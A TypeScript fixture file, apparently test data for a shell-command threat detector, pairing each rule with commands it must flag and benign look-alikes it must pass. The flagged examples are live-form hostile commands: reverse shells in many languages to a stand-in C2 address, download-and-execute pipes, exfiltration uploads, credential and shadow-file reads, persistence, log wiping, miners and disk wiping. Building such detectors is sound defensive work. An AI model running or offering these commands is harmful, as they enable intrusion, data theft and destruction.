/** For each of our rules commands that it must find, and ones beside them that it must not. */
export interface Examples {
  readonly hits: readonly string[];
  readonly misses: readonly string[];
}

const C2 = '203.0.113.66';

export const EXAMPLES: Readonly<Record<string, Examples>> = {
  reverse_shell_dev_tcp: {
    hits: [
      `bash -i >& /dev/tcp/${C2}/4444 0>&1`,
      `exec 5<>/dev/tcp/${C2}/4444;cat <&5 | while read line; do $line 2>&5 >&5; done`,
      `* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/${C2}/4444 0>&1'`,
      `b"a"sh -i >& /dev/t""cp/${C2}/4444 0>&1`,
      `echo ${Buffer.from(`bash -i >& /dev/tcp/${C2}/4444 0>&1`).toString('base64')} | base64 -d | bash`,
    ],
    misses: ['timeout 1 bash -c "</dev/tcp/db/5432" && echo up', 'bash -i'],
  },
  dev_tcp_connection: {
    hits: ['for p in {1..1024}; do (echo >/dev/tcp/10.20.3.1/$p) 2>/dev/null && echo $p; done'],
    misses: ['ls -l /dev/tty', 'man tcp'],
  },
  reverse_shell_netcat: {
    hits: [`nc -e /bin/sh ${C2} 4444`, `ncat ${C2} 4444 --exec /bin/bash`, `busybox nc ${C2} 4444 -e sh`],
    misses: ['nc -zv db.internal 5432', 'nc -l 8080 > shell.log'],
  },
  reverse_shell_pipe: {
    hits: [
      `rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ${C2} 4444 >/tmp/f`,
      `mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect ${C2}:443 > /tmp/s`,
    ],
    misses: ['mkfifo /run/app/queue', 'nc -l 9000 | tee log'],
  },
  shell_fed_by_network_client: {
    hits: [`nc ${C2} 4444 | /bin/bash | nc ${C2} 4445`, `telnet ${C2} 4444 | sh`],
    misses: ['nc -l 9000 | gzip > dump.gz'],
  },
  reverse_shell_socat: {
    hits: [`socat TCP:${C2}:4444 EXEC:'/bin/bash',pty,stderr,setsid,sigint,sane`],
    misses: ['socat TCP-LISTEN:8080,fork TCP:backend:80'],
  },
  reverse_shell_socket_tool: {
    hits: [`socket -qvp '/bin/sh -i' ${C2} 4444`],
    misses: ['socket --help', 'ss -lntp'],
  },
  reverse_shell_python: {
    hits: [
      `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("${C2}",4444));os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])'`,
    ],
    misses: ["python3 -c 'import socket; print(socket.gethostname())'", 'python3 manage.py runserver'],
  },
  terminal_made_by_python: {
    hits: [`python -c 'import pty; pty.spawn("/bin/bash")'`],
    misses: ["python -c 'import pty'"],
  },
  reverse_shell_perl: {
    hits: [
      `perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"${C2}:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`,
    ],
    misses: ["perl -ne 'print if /socket/' log"],
  },
  reverse_shell_php: {
    hits: [`php -r '$sock=fsockopen("${C2}",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`],
    misses: ['php -r \'var_dump(fsockopen("db", 3306));\''],
  },
  reverse_shell_ruby: {
    hits: [`ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("${C2}",4444))'`],
    misses: ['ruby -rsocket -e \'puts TCPSocket.new("db", 5432).peeraddr\''],
  },
  reverse_shell_lua: {
    hits: [
      `lua -e "require('socket');t=socket.tcp();t:connect('${C2}','4444');os.execute('/bin/sh -i <&3 >&3 2>&3');"`,
    ],
    misses: ['lua -e "print(require(\'socket\')._VERSION)"'],
  },
  reverse_shell_awk: {
    hits: [
      `awk 'BEGIN {s = "/inet/tcp/0/${C2}/4444"; while(42) { do{ printf "shell>" |& s; s |& getline c; } while(c) }}'`,
    ],
    misses: ["awk '/inet/ {print $2}' <(ifconfig)"],
  },
  reverse_shell_node: {
    hits: [
      `node -e 'sh=require("child_process").spawn("/bin/sh");require("net").connect(4444,"${C2}",function(){this.pipe(sh.stdin);sh.stdout.pipe(this)})'`,
    ],
    misses: [`node -e 'require("net").connect(5432,"db").on("connect",()=>process.exit())'`],
  },
  reverse_shell_java: {
    hits: [
      `jrunscript -e 'var p=new java.lang.ProcessBuilder("/bin/sh").start();var s=new java.net.Socket("${C2}",4444);'`,
    ],
    misses: ['jrunscript -e \'print(new java.net.Socket("db", 5432))\''],
  },
  reverse_shell_go: {
    hits: [
      `echo 'package main;import"os/exec";import"net";func main(){c,_:=net.Dial("tcp","${C2}:4444");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;cmd.Run()}' > /tmp/t.go`,
    ],
    misses: ['go build ./cmd/server'],
  },
  reverse_shell_other_language: {
    hits: [
      `zsh -c 'zmodload zsh/net/tcp && ztcp ${C2} 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'`,
      `tclsh <<< 'set s [socket ${C2} 4444];while 1 {gets $s c;set e "exec $c";eval $e}'`,
    ],
    misses: ["zsh -c 'zmodload zsh/datetime'"],
  },
  remote_access_tunnel: {
    hits: ['ngrok tcp 22', `chisel client ${C2}:8080 R:socks`, 'code tunnel --name web'],
    misses: ['code .', 'ngrok --version'],
  },
  ssh_reverse_tunnel: {
    hits: [`ssh -fN -R 2222:localhost:22 x@${C2}`],
    misses: ['ssh -L 5432:db:5432 bastion', 'ssh host ls -R /srv'],
  },
  download_piped_to_interpreter: {
    hits: [
      `curl -s http://${C2}/x.sh | bash`,
      `wget -qO- http://${C2}/x | sudo sh`,
      'curl x.example | base64 -d | sh',
    ],
    misses: [
      'curl -s https://api.example.org | jq .',
      'curl -s https://api.example.org | python -m json.tool',
    ],
  },
  download_in_substitution: {
    hits: [`bash <(curl -s http://${C2}/x)`, `eval "$(wget -qO- http://${C2}/x)"`],
    misses: ['diff <(curl -s a) <(curl -s b)'],
  },
  download_then_run: {
    hits: [`wget http://${C2}/a -O a; chmod +x a; ./a`, `cd /tmp && curl -O http://${C2}/k && chmod 777 k`],
    misses: ['wget https://example.org/a.tgz && tar xzf a.tgz'],
  },
  download_to_temporary_folder: {
    hits: [`curl -o /tmp/.x http://${C2}/x`, `cd /dev/shm; wget http://${C2}/x`],
    misses: ['curl -o /opt/app/app.tgz https://example.org/app.tgz'],
  },
  download_from_bare_address: {
    hits: [`wget http://${C2}/bins/x86_64`, `curl -O http://${C2}:8080/kworker.sh`],
    misses: ['curl http://10.20.3.1/health?full=1', 'wget https://example.org/x.sh'],
  },
  decoded_text_runs: {
    hits: [
      'echo ZWNobyBoaQ== | base64 -d | bash',
      'echo 6964 | xxd -r -p | sh',
      'python3 -c \'exec(__import__("base64").b64decode("aW1wb3J0"))\'',
    ],
    misses: ['kubectl get secret x -o json | base64 -d', 'base64 -d key.b64 > key'],
  },
  decoded_text_to_program: {
    hits: ['echo f0VMRg== | base64 -d > /tmp/k; chmod +x /tmp/k'],
    misses: ['base64 -d cert.b64 > cert.pem'],
  },
  interpreter_fetches_code: {
    hits: [`python -c 'import urllib.request as u;exec(u.urlopen("http://${C2}/x").read())'`],
    misses: [`python -c 'import urllib.request as u;print(u.urlopen("http://db/health").status)'`],
  },
  paste_or_drop_service: {
    hits: ['curl https://pastebin.com/raw/abc', 'curl --upload-file x https://transfer.sh/x'],
    misses: ['curl https://example.org/raw/abc'],
  },
  program_run_from_temporary_folder: {
    hits: ['/tmp/kworkerd --threads 4', 'nohup /var/tmp/x &', 'sh /dev/shm/a.sh'],
    misses: ['ls /tmp/x', "find . -exec /tmp/rename.sh {} ';'", 'tail -f /tmp/app.log'],
  },
  program_run_from_hidden_folder: {
    hits: ['cd /var/tmp/.x && ./kworkerd', '/tmp/.ICE/k -o pool', 'mkdir /var/tmp/...'],
    misses: ['ls -la /tmp', 'cat /tmp/.X0-lock'],
  },
  background_and_detached: {
    hits: ['nohup ./kworkerd > /dev/null 2>&1 &'],
    misses: ['nohup make -j4 > build.log &'],
  },
  web_shell_written: {
    hits: [`echo '<?php system($_GET["c"]); ?>' > /var/www/html/x.php`],
    misses: [`echo '<?php phpinfo();' > info.php`],
  },
  cron_from_command_line: {
    hits: ['(crontab -l; echo "* * * * * /tmp/.x/k") | crontab -', 'crontab /tmp/c'],
    misses: ['crontab -l', 'crontab -e'],
  },
  cron_table_edited: { hits: ['crontab -l | sed s/a/b/ | crontab -'], misses: ['crontab -l | grep backup'] },
  cron_file_written: {
    hits: ['echo "* * * * * root x" > /etc/cron.d/sysstat-update', 'cp x /etc/cron.hourly/x'],
    misses: ['cat /etc/cron.d/sysstat', 'ls /etc/cron.daily'],
  },
  cron_runs_network_code: {
    hits: [
      `*/5 * * * * curl -s http://${C2}/x | sh`,
      `* * * * * root /bin/bash -c 'bash -i >& /dev/tcp/${C2}/4444 0>&1'`,
    ],
    misses: ['5-55/10 * * * * root command -v debian-sa1 > /dev/null && debian-sa1 1 1'],
  },
  job_for_at: { hits: ['echo /tmp/x | at now + 1 minute'], misses: ['atq', 'echo look at now'] },
  unit_file_written: {
    hits: [
      'cat > /etc/systemd/system/dbus-helper.service',
      'systemctl enable /tmp/x.service',
      'cp x /etc/init.d/x',
    ],
    misses: ['systemctl enable nginx', 'cat /etc/systemd/system/app.service'],
  },
  unit_runs_hidden_code: {
    hits: ['ExecStart=/var/tmp/.x/kworkerd', `ExecStart=/bin/sh -c 'curl http://${C2}/x | sh'`],
    misses: ['ExecStart=/usr/sbin/nginx -g "daemon on;"'],
  },
  transient_unit: { hits: ['systemd-run --on-active=60 /bin/sh -c id'], misses: ['systemd-run --help'] },
  ssh_key_added: {
    hits: ['echo "ssh-ed25519 AAAA x" >> /root/.ssh/authorized_keys'],
    misses: ['cat ~/.ssh/authorized_keys', 'ssh-keygen -lf ~/.ssh/authorized_keys'],
  },
  shell_profile_written: {
    hits: [
      "echo 'curl x' >> ~/.bashrc",
      'echo x | tee -a /home/deploy/.profile',
      'echo x > /etc/profile.d/y.sh',
    ],
    misses: ['source ~/.bashrc', 'cp .bashrc .bashrc.old'],
  },
  boot_script_written: { hits: ['echo /tmp/x >> /etc/rc.local'], misses: ['cat /etc/rc.local'] },
  library_preloaded: {
    hits: ['echo /usr/lib/libx.so > /etc/ld.so.preload', 'LD_PRELOAD=/tmp/x.so ls'],
    misses: ['LD_PRELOAD=/usr/lib/libjemalloc.so.2 redis-server', 'cat /etc/ld.so.preload'],
  },
  privileged_user_made: {
    hits: ['useradd -o -u 0 sysupd', 'usermod -aG sudo sysupd', "echo 'x::0:0::/:/bin/sh' >> /etc/passwd"],
    misses: ['useradd -r nginx', 'grep sudo /etc/group'],
  },
  user_made_with_password: {
    hits: ['useradd -p $(openssl passwd -1 x) y', 'echo x:y | chpasswd'],
    misses: ['passwd deploy'],
  },
  login_user_made: { hits: ['useradd -m -s /bin/bash sysupd'], misses: ['id sysupd', 'useradd --help'] },
  sudo_rule_written: {
    hits: ["echo 'www-data ALL=(ALL) NOPASSWD: ALL' >> /etc/sudoers"],
    misses: ['visudo -c', 'sudo ls'],
  },
  sudo_rights_listed: { hits: ['sudo -l'], misses: ['sudo ls -l'] },
  login_module_changed: {
    hits: [
      'cp pam_unix.so /lib/x86_64-linux-gnu/security/pam_unix.so',
      'echo auth sufficient pam_permit.so >> /etc/pam.d/sshd',
    ],
    misses: ['cat /etc/pam.d/sshd'],
  },
  setuid_bit_set: {
    hits: ['chmod u+s /usr/bin/x', 'chmod 4755 x'],
    misses: ['chmod 755 x', 'find . -type d -exec chmod 2775 {} +'],
  },
  setuid_shell: {
    hits: ['cp /bin/bash /var/tmp/.x/.sh; chmod 4755 /var/tmp/.x/.sh', 'chmod u+s /bin/bash'],
    misses: ['chmod 755 /bin/bash'],
  },
  capability_set: {
    hits: ['setcap cap_setuid+ep /usr/bin/python3'],
    misses: ['setcap cap_net_bind_service=+ep /usr/bin/node', 'getcap /usr/bin/ping'],
  },
  kernel_module_loaded: {
    hits: ['insmod ./x.ko', 'modprobe /tmp/x'],
    misses: ['modprobe br_netfilter', 'lsmod'],
  },
  rootkit: {
    hits: ['make -C libprocesshider', 'mount --bind /tmp/e /proc/4242'],
    misses: ['mount --bind /srv /mnt'],
  },
  command_on_shell_exit: {
    hits: ["trap 'sh /tmp/x' EXIT", "trap 'echo $BASH_COMMAND >> /tmp/k' DEBUG"],
    misses: ['echo trap EXITED'],
  },
  event_hook_written: {
    hits: ['echo x > /etc/udev/rules.d/99-x.rules', 'cp x .git/hooks/post-commit'],
    misses: ['ls /etc/udev/rules.d'],
  },
  root_certificate_installed: { hits: ['update-ca-certificates'], misses: ['openssl x509 -in ca.crt -text'] },
  password_hashes_read: {
    hits: ['cat /etc/shadow', 'cp /etc/shadow- /tmp'],
    misses: ['ls -l /etc/shadow', 'cat /etc/hosts'],
  },
  accounts_copied: {
    hits: ['cat /etc/passwd > /tmp/p', 'cat /etc/passwd | nc 203.0.113.66 80'],
    misses: ['cat /etc/passwd', 'grep root /etc/passwd'],
  },
  sudo_rules_read: { hits: ['cat /etc/sudoers'], misses: ['visudo'] },
  private_keys_collected: {
    hits: ['find / -name id_rsa 2>/dev/null', 'cat ~/.ssh/id_ed25519'],
    misses: ['cat ~/.ssh/id_ed25519.pub', 'ssh -i ~/.ssh/id_rsa host'],
  },
  cloud_credentials_collected: {
    hits: ['cat ~/.aws/credentials', 'find / -path "*/.kube/config"'],
    misses: ['aws s3 ls', 'kubectl config view'],
  },
  instance_role_read: {
    hits: ['curl http://169.254.169.254/latest/meta-data/iam/security-credentials/shop-frontend'],
    misses: ['curl http://169.254.169.254/latest/meta-data/instance-id'],
  },
  process_memory_read: {
    hits: ['dd if=/proc/4242/mem of=/tmp/m', 'strings /proc/*/environ'],
    misses: ['cat /proc/meminfo', 'cat /proc/cpuinfo'],
  },
  history_searched: {
    hits: ['cat ~/.bash_history | grep pass', 'find / -name .bash_history'],
    misses: ['history | grep ssh'],
  },
  secrets_searched: {
    hits: ['grep -ri password /etc', 'find / -name "*.kdbx"'],
    misses: ['grep -r TODO src', 'find . -name "*.pem"'],
  },
  browser_data_collected: {
    hits: ['cp ~/.mozilla/firefox/x/logins.json /tmp'],
    misses: ['firefox https://example.org'],
  },
  mail_taken: { hits: ['tar czf m.tgz /var/spool/mail/'], misses: ['mail -s hi root'] },
  input_captured: {
    hits: ["PROMPT_COMMAND='history -a >(tee -a /tmp/h)'", 'strace -p $(pgrep sshd) -e read'],
    misses: ['strace ls'],
  },
  traffic_captured: { hits: ['tcpdump -i eth0 -w /tmp/c.pcap'], misses: ['which tcpdump'] },
  password_on_command_line: { hits: ['sshpass -p x ssh root@10.20.3.5'], misses: ['ssh root@10.20.3.5'] },
  password_guessing: {
    hits: ['hydra -l root -P w.txt ssh://10.20.3.5', 'john hashes'],
    misses: ['ls /home/john', 'su john'],
  },
  screen_captured: { hits: ['import -window root /tmp/s.png'], misses: ['import os'] },
  clipboard_read: { hits: ['xclip -o -selection clipboard'], misses: ['cat f | xclip -selection clipboard'] },
  domain_asked: {
    hits: ['ldapsearch -x -D u -w p "(objectClass=user)"', 'secretsdump.py x'],
    misses: ['id user@example.org'],
  },
  history_wiped: {
    hits: [
      'history -c',
      'rm -f ~/.bash_history',
      'cat /dev/null > ~/.bash_history',
      'ln -sf /dev/null ~/.bash_history',
    ],
    misses: ['history', 'find . -name job.history -exec grep x {} +'],
  },
  history_switched_off: {
    hits: ['unset HISTFILE', 'export HISTSIZE=0', 'set +o history', 'HISTFILE=/dev/null'],
    misses: ['export HISTSIZE=10000', 'set -o history'],
  },
  session_without_terminal: { hits: ['ssh -T x@203.0.113.66 id'], misses: ['ssh host'] },
  logs_wiped: {
    hits: [
      'rm -rf /var/log/auth.log',
      '> /var/log/wtmp',
      'truncate -s 0 /var/log/syslog',
      'echo "" > /var/log/secure',
    ],
    misses: ['tail -f /var/log/syslog', 'find /var/log -mtime +14 -delete'],
  },
  application_logs_wiped: {
    hits: ['rm -rf /var/log/nginx/', 'truncate -s 0 /var/log/nginx/access.log', '> /var/log/shop/app.log'],
    misses: [
      'rm -rf /var/log/myapp/*.gz',
      'rm /var/log/nginx/access.log.14',
      'tail /var/log/nginx/access.log',
    ],
  },
  login_records_wiped: {
    hits: ['utmpdump -r < x > /var/log/wtmp', 'rm /var/log/btmp', 'cd /tmp; ./zap2 root'],
    misses: ['last -f /var/log/wtmp', 'brew uninstall --zap firefox'],
  },
  journal_wiped: {
    hits: ['journalctl --vacuum-time=1s', 'dmesg -C'],
    misses: ['journalctl --vacuum-time=30d', 'journalctl -u nginx'],
  },
  times_forged: {
    hits: ['touch -r /bin/ls /tmp/x', 'touch -t 199901010000 x'],
    misses: ['touch x', 'touch -d yesterday x'],
  },
  logging_stopped: {
    hits: ['systemctl stop rsyslog', 'service auditd stop', 'pkill -9 falcon-sensor'],
    misses: ['systemctl restart rsyslog', 'systemctl stop nginx'],
  },
  audit_rules_removed: { hits: ['auditctl -D', 'auditctl -e 0'], misses: ['auditctl -l'] },
  syslog_changed: { hits: ["sed -i '/authpriv/d' /etc/rsyslog.conf"], misses: ['cat /etc/rsyslog.conf'] },
  mandatory_access_disabled: {
    hits: ['setenforce 0', 'sysctl -w kernel.randomize_va_space=0'],
    misses: ['getenforce', 'sysctl vm.swappiness=10'],
  },
  firewall_opened: {
    hits: ['iptables -F', 'ufw disable', 'systemctl stop firewalld'],
    misses: ['iptables -L -n', 'ufw status'],
  },
  file_made_immutable: { hits: ['chattr +i /etc/ld.so.preload'], misses: ['lsattr /etc'] },
  traces_removed: {
    hits: ['rm -f "$0"', 'shred -u x'],
    misses: ['rm -f build.log', "find . -exec bash -c 'rm \"$0\"' {} ';'"],
  },
  name_disguised: {
    hits: ["exec -a '[kworker/0:1]' ./k", 'sh /tmp/image.png'],
    misses: ['exec nginx', 'sh build.sh'],
  },
  hidden_file_made: {
    hits: ['mkdir /var/tmp/.cache-x', 'touch /dev/shm/.k'],
    misses: ['mkdir ~/.config', 'touch /srv/app/x'],
  },
  miner: {
    hits: [
      `./kworkerd --pool stratum+tcp://${C2}:3333 -u x`,
      'xmrig -o pool.supportxmr.com:443',
      './k --donate-level=1',
    ],
    misses: ['npm run build', './server --pool 10', 'ps aux | grep xmrig', 'which minerd'],
  },
  miner_prepared: {
    hits: ['sysctl -w vm.nr_hugepages=1280', 'modprobe msr allow_writes=on'],
    misses: ['sysctl vm.nr_hugepages'],
  },
  rival_removed: {
    hits: ['pkill -f xmrig', 'ps aux | grep kinsing | xargs kill'],
    misses: ['pkill -f node'],
  },
  processor_burnt: { hits: ['yes > /dev/null &'], misses: ['yes | apt install x'] },
  files_encrypted: {
    hits: ['openssl enc -aes-256-cbc -pass pass:x -in a -out b', 'gpg --batch --passphrase x -c f'],
    misses: ['openssl x509 -in a', 'zip a.zip b', 'find /mnt/zip | xargs -p rm'],
  },
  disk_overwritten: {
    hits: ['dd if=/dev/zero of=/dev/sda', 'mkfs.ext4 /dev/nvme0n1'],
    misses: ['dd if=disk.img of=/dev/sdb', 'mkfs.xfs /dev/nvme1n1'],
  },
  system_request_key: { hits: ['echo b > /proc/sysrq-trigger'], misses: ['cat /proc/sys/kernel/sysrq'] },
  fork_bomb: { hits: [':(){ :|:& };:'], misses: ['f() { ls; }; f'] },
  service_ended: { hits: ['systemctl stop nginx'], misses: ['systemctl status nginx'] },
  system_shut_down: { hits: ['sudo reboot', 'shutdown -h now'], misses: ['last reboot'] },
  container_with_host: {
    hits: ['docker run -v /:/host -it alpine', 'docker run --privileged x'],
    misses: ['docker run -p 80:80 nginx', 'docker run -v /srv/data:/data x'],
  },
  host_entered: {
    hits: ['nsenter -t 1 -m -u -i -n sh', 'chroot /host bash'],
    misses: ['chroot /srv/jail ls', 'nsenter -t 4242 -n ip a'],
  },
  cgroup_escape: {
    hits: [
      'echo /cmd > /sys/fs/cgroup/rdma/release_agent',
      'echo /tmp/x > /sys/kernel/uevent_helper',
      'echo "|/tmp/x" > /proc/sys/kernel/core_pattern',
    ],
    misses: ['cat /proc/sys/kernel/core_pattern', 'echo > /sys/kernel/uevent_helper'],
  },
  container_socket_used: {
    hits: ['curl --unix-socket /var/run/docker.sock http://x/containers/json'],
    misses: ['docker ps'],
  },
  host_disk_mounted: {
    hits: ['mount /dev/xvda1 /mnt/h', 'debugfs /dev/nvme0n1p1'],
    misses: ['mount /dev/sdb1 /srv', 'df -h'],
  },
  container_escape_tool: { hits: ['./cdk evaluate --full', 'deepce.sh'], misses: ['cdk deploy'] },
  cluster_entered: {
    hits: ['kubectl exec -it web -- sh', 'kubectl get secrets -A'],
    misses: ['kubectl get pods'],
  },
  shell_out_of_interpreter: {
    hits: [
      `awk 'BEGIN {system("/bin/sh")}'`,
      `python3 -c 'import os; os.system("/bin/sh")'`,
      `perl -e 'exec "/bin/sh";'`,
    ],
    misses: [`awk '{system("date")}'`, "perl -pe 's/a/b/'"],
  },
  shell_out_of_tool: {
    hits: [
      'find . -exec /bin/sh \\; -quit',
      "vim -c ':!/bin/sh'",
      'tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
      'sudo env /bin/sh',
    ],
    misses: ['find . -exec sh -c \'echo "$1"\' _ {} \\;', 'vim x', 'tar --use-compress-program=pigz -cf a b'],
  },
  set_user_then_shell: {
    hits: [`python -c 'import os; os.setuid(0); os.system("/bin/sh")'`, './bash -p'],
    misses: ['bash -c id'],
  },
  shell_with_terminal: {
    hits: ["watch 'reset; exec /bin/sh 1>&0 2>&0'", "x -c '/bin/sh </dev/tty >/dev/tty'"],
    misses: ['sh build.sh > log 2>&1'],
  },
  shell_by_prompt: {
    hits: ['less /etc/hosts\n!/bin/sh', "dc -e '!/bin/sh'", "tex --shell-escape '\\write18{/bin/sh}'"],
    misses: ['#!/bin/sh', 'echo hi!'],
  },
  shell_as_argument: {
    hits: ['doas -u root /bin/sh', 'nsenter /bin/sh', 'npm exec /bin/sh'],
    misses: [
      'sudo /bin/bash',
      '/usr/bin/tini -- /bin/sh',
      'ls -l /bin/sh',
      'chsh -s /bin/bash',
      'useradd -s /bin/bash',
    ],
  },
  shell_in_options: {
    hits: ['tool --pager=/bin/sh x', `x --eval 'run("/bin/sh")'`],
    misses: ['tool --shell-completion zshx', 'chsh'],
  },
  escalation_tool: { hits: ['./linpeas.sh -a', './pspy64'], misses: ['head -$LINENUM f'] },
  setuid_files_searched: { hits: ['find / -perm -4000 -type f 2>/dev/null'], misses: ['find / -perm 644'] },
  scan: { hits: ['nmap -sV 10.20.3.0/24', 'nc -zv 10.20.3.5 1-1000'], misses: ['man nmap', 'ping -c1 db'] },
  security_software_searched: {
    hits: ['ps aux | grep -i falcon', 'pgrep wazuh'],
    misses: ['ps aux | grep nginx'],
  },
  virtual_machine_searched: {
    hits: ['systemd-detect-virt', 'cat /sys/class/dmi/id/product_name'],
    misses: ['lscpu'],
  },
  public_address_asked: { hits: ['curl ifconfig.me'], misses: ['ip addr'] },
  host_described_to_file: { hits: ['uname -a >> /tmp/o'], misses: ['uname -a', 'find . > /tmp/list'] },
  password_policy_read: { hits: ['cat /etc/login.defs'], misses: ['cat /etc/hosts'] },
  host_questions: {
    hits: ['whoami; uname -a; ip a', 'id\nhostname\nps aux'],
    misses: ['whoami', 'uname -a; ls'],
  },
  file_uploaded: {
    hits: [`curl -F file=@/etc/passwd http://${C2}/`, 'wget --post-file=/tmp/l http://x'],
    misses: ['curl -X POST -d @body.json http://app'],
  },
  archive_piped_away: {
    hits: [`tar cz /etc | nc ${C2} 80`, `nc ${C2} 9000 < dump.sql`],
    misses: ['tar cz /etc | gzip > x', 'tar czf a.tgz /etc'],
  },
  data_in_names: { hits: ['dig $(cat /etc/hostname | base64).x.example.org'], misses: ['dig example.org'] },
  folder_served: {
    hits: ['python3 -m http.server 8000', 'php -S 0.0.0.0:80'],
    misses: ['python3 -m venv x'],
  },
  copied_to_stranger: {
    hits: [`scp -o StrictHostKeyChecking=no x root@${C2}:/`, 'rclone copy /srv x:'],
    misses: ['scp x host:/srv'],
  },
  data_staged: { hits: ['tar czf /tmp/l.tgz /etc /home'], misses: ['tar czf /srv/backup.tgz /srv/app'] },
  proxy_set: {
    hits: ['proxychains nmap x', 'export https_proxy=http://127.0.0.1:8080'],
    misses: ['curl -x http://proxy.example.org:3128 x'],
  },
};
